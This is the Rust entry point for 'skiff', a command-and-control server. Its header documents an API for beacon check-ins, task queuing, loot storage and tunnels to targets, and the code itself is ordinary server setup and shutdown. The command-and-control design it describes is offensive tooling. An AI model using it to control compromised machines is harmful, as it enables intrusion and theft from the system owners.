#![deny(clippy::all)]
#![warn(clippy::pedantic)]
#![allow(clippy::module_name_repetitions)]

//! # skiff
//!
//! Command-and-control server. Beacons poll in over HTTP, pick up queued
//! tasks, return results, and relay port-forwarding tunnels through the same
//! exchange. Operators drive everything through a bearer-key REST API.
//!
//! ## Subcommands
//!
//! - `skiff serve` (default) runs the HTTP server
//!
//! ## API surface
//!
//! | Method | Path                               | Auth   | Description                 |
//! |--------|------------------------------------|--------|-----------------------------|
//! | GET    | `/api/health`                      | No     | Liveness probe              |
//! | POST   | `/api/beacon/checkin`              | beacon | Poll exchange               |
//! | GET    | `/api/beacon/chunk/{task}/{n}`     | beacon | Download chunk              |
//! | GET    | `/api/beacons`                     | api    | List beacons                |
//! | POST   | `/api/beacons/{id}/terminate`      | api    | Exit on next poll           |
//! | GET    | `/api/beacons/{id}/tasks`          | api    | Tasks of a beacon           |
//! | POST   | `/api/tasks`                       | api    | Queue a task                |
//! | GET    | `/api/tasks/{id}`                  | api    | Task status and output      |
//! | POST   | `/api/tasks/{id}/cancel`           | api    | Cancel a queued task        |
//! | POST   | `/api/tunnels`                     | api    | Request a tunnel            |
//! | GET    | `/api/tunnels`                     | api    | List tunnels                |
//! | GET    | `/api/tunnels/{id}`                | api    | One tunnel                  |
//! | DELETE | `/api/tunnels/{id}`                | api    | Close a tunnel              |
//! | POST   | `/api/tunnels/{id}/data`           | api    | Send bytes to the target    |
//! | GET    | `/api/tunnels/{id}/data`           | api    | Receive bytes               |
//! | GET    | `/api/transfers`                   | api    | Active chunk transfers      |
//!
//! ## Architecture
//!
//! ```text
//! main.rs          entry point, clap subcommands, sweeps, graceful shutdown
//! auth.rs          bearer key middleware, constant-time comparison
//! config.rs        TOML + env-var configuration
//! protocol.rs      wire types shared with the beacon
//! checkin.rs       one poll: results, tunnel traffic, dispatch, drain
//! commands/        command registry + server converters
//! tasks/           task lifecycle manager, decode chain
//! transfer/        chunk serving for downloads
//! tunnel/          tunnel registry
//! store.rs         persistence collaborator
//! loot.rs          uploaded artifact storage
//! routes/          HTTP handlers
//! ```

use std::time::Duration;

use clap::{Parser, Subcommand};
use tokio::net::TcpListener;
use tracing::{error, info, warn};

use skiff::{routes, AppState, Config};

/// Task dispatch and tunnel relay server.
#[derive(Parser)]
#[command(name = "skiff", version)]
struct Cli {
    /// Path to TOML config file (when no subcommand is given).
    #[arg(long, global = true)]
    config: Option<String>,
    #[command(subcommand)]
    command: Option<Commands>,
}

#[derive(Subcommand)]
enum Commands {
    /// Run the HTTP server (default when no subcommand given).
    Serve,
}

const SWEEP_INTERVAL: Duration = Duration::from_secs(30);

#[tokio::main]
async fn main() {
    let cli = Cli::parse();
    match cli.command {
        Some(Commands::Serve) | None => run_server(cli.config.as_deref()).await,
    }
}

async fn run_server(config_path: Option<&str>) {
    let config = match Config::load(config_path) {
        Ok(c) => c,
        Err(e) => {
            eprintln!("skiff: {e}");
            std::process::exit(2);
        }
    };

    let log_filter = std::env::var("RUST_LOG").unwrap_or_else(|_| config.logging.level.clone());
    tracing_subscriber::fmt().with_env_filter(log_filter).init();

    info!("skiff v{} starting", env!("CARGO_PKG_VERSION"));
    info!("Listening on {}", config.server.listen);

    if config.auth.api_key == "change-me" {
        warn!("Using default API key; set SKIFF_API_KEY or update config");
    }
    if config.auth.beacon_key == "change-me-too" {
        warn!("Using default beacon key; set SKIFF_BEACON_KEY or update config");
    }

    let state = match AppState::new(config) {
        Ok(s) => s,
        Err(e) => {
            error!("Failed to build command registry: {e}");
            std::process::exit(1);
        }
    };
    info!(commands = ?state.tasks.commands(), "Command registry ready");

    let app = routes::router(state.clone());

    let listener = TcpListener::bind(&state.config.server.listen)
        .await
        .expect("Failed to bind");

    info!("Server ready");

    // Periodic sweep: idle transfers and long-closed tunnels.
    let sweep_state = state.clone();
    let sweep_task = tokio::spawn(async move {
        let mut interval = tokio::time::interval(SWEEP_INTERVAL);
        let retention = sweep_state.config.tunnel.retention();
        loop {
            interval.tick().await;
            sweep_state.transfers.sweep_stale().await;
            sweep_state.tunnels.sweep_closed(retention).await;
        }
    });

    // Graceful shutdown
    let shutdown = async {
        let ctrl_c = tokio::signal::ctrl_c();
        #[cfg(unix)]
        {
            let mut sigterm =
                tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate())
                    .expect("Failed to register SIGTERM");
            tokio::select! {
                _ = ctrl_c => info!("Received SIGINT"),
                _ = sigterm.recv() => info!("Received SIGTERM"),
            }
        }
        #[cfg(not(unix))]
        {
            ctrl_c.await.ok();
            info!("Received SIGINT");
        }
    };

    axum::serve(listener, app)
        .with_graceful_shutdown(shutdown)
        .await
        .expect("Server error");

    info!("Shutting down...");
    sweep_task.abort();
    for tunnel in state.tunnels.list().await {
        if !tunnel.status.is_terminal() {
            let _ = state.tunnels.close(&tunnel.tunnel_id).await;
        }
    }
    info!("Goodbye");
}
